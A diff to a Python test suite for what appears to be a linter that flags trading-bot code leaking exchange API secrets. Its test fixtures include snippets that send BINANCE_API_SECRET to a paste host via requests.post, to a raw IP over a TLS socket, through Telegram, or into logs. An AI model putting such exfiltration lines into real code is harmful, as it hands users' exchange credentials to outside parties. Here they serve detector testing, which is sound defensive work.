@@ -34,6 +34,18 @@ def flow_of(src: str):
     return ctx.shared["dataflow"]
 
 
+def test_every_client_tracker_event_is_forwarded_when_the_data_flow_drives_it():
+    """BOT2 alone puts only the data flow in the walk; in a module naming ccxt it drives the
+    shared ClientTracker itself, so each event the tracker handles must be one it forwards."""
+    from botlint.analysis.clients import ClientTracker
+    from botlint.analysis.dataflow import FORWARDED, DataFlow
+
+    handled = {n for n in dir(ClientTracker) if n.startswith(("visit_", "leave_"))
+               and getattr(ClientTracker, n) is not getattr(cst.BatchableCSTVisitor, n, None)}
+    assert handled <= set(FORWARDED)
+    assert all(hasattr(DataFlow, n) for n in FORWARDED)
+
+
 def test_no_rule_code_under_analysis():
     """The analysis package is rule-free: sinks are kinds, codes live in the rules."""
     hits = []
@@ -85,33 +97,41 @@ def test_a_code_selected_alone_still_reports(code):
         "BOT202": "import os\nraise ValueError(os.environ['BINANCE_API_SECRET'])\n",
         "BOT203": "import os\nfrom telegram import Bot\nBot('t').send_message(1, os.environ['BINANCE_API_SECRET'])\n",
         "BOT204": "import os\nopen('k.txt', 'w').write(os.environ['BINANCE_API_SECRET'])\n",
-        "BOT205": "import os, requests\nrequests.post('https://paste.example.net', data=os.environ['BINANCE_API_SECRET'])\n",
+        "BOT205": "import os, requests\n"
+                  "requests.post('https://paste.example.net', data=os.environ['BINANCE_API_SECRET'])\n",
         "BOT206": "import ccxt, os\nex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n",
         "BOT207": "import ccxt, os, logging\nlogging.basicConfig(level=logging.DEBUG)\n"
-                  "ex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\n",
+        "ex = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\n",
     }
     assert [c for _l, c in codes(srcs[code], (code,))] == [code]
 
 
 # -- behaviour changed by the move (each fails on 0.1.0's taint.py) ------------------------------
 
+
 def test_ccxt_clients_come_from_the_shared_tracker():
     """A class bound to a name (``klass = ccxt.binance``) builds a client: the tracker knows it,
     taint's own regex did not."""
-    src = ("import ccxt, os\nklass = ccxt.binance\n"
-           "ex = klass({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n")
+    src = (
+        "import ccxt, os\nklass = ccxt.binance\n"
+        "ex = klass({'apiKey': os.environ['BINANCE_API_KEY'], 'verbose': True})\n"
+    )
     assert codes(src) == [(3, "BOT206")]
 
 
 def test_post_in_a_module_importing_a_discord_helper_is_still_http():
-    src = ("import os, requests\nimport dhooks\n"
-           "requests.post('https://paste.example.net/api', data=os.environ['BINANCE_API_SECRET'])\n")
+    src = (
+        "import os, requests\nimport dhooks\n"
+        "requests.post('https://paste.example.net/api', data=os.environ['BINANCE_API_SECRET'])\n"
+    )
     assert codes(src) == [(3, "BOT205")]
 
 
 def test_write_on_a_raw_socket_is_egress():
-    src = ("import os, ssl, socket\nraw = socket.create_connection(('45.77.12.9', 443))\n"
-           "s = ssl.wrap_socket(raw)\ns.write(os.environ['BINANCE_API_SECRET'].encode())\n")
+    src = (
+        "import os, ssl, socket\nraw = socket.create_connection(('45.77.12.9', 443))\n"
+        "s = ssl.wrap_socket(raw)\ns.write(os.environ['BINANCE_API_SECRET'].encode())\n"
+    )
     assert codes(src) == [(4, "BOT205")]
 
 
@@ -121,7 +141,8 @@ def test_participles_describe_the_credential_not_a_flag(name):
     assert codes(src) == [(3, "BOT201")]
 
 
-@pytest.mark.parametrize("name", ["has_api_key", "max_secret_len", "num_api_keys", "print_api_key", "invalid_api_key"])
+@pytest.mark.parametrize("name", ["has_api_key", "max_secret_len", "num_api_keys", "print_api_key", "invalid_api_key",
+                                  "from_detect_secrets", "scan_secrets"])
 def test_flag_names_are_not_credentials(name):
     from botlint.analysis import names
 
